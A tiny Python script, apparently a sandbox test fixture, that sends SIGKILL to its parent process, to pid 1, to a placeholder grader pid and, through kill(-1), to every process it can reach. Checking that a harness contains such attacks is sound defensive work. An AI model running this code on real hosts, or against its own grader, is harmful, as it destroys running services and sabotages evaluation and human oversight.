# Tries to kill its parent, the grader (pid __PID__ on the host) and every process it can signal.
import os
import signal

for pid in (os.getppid(), 1, __PID__):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
os.kill(-1, signal.SIGKILL)
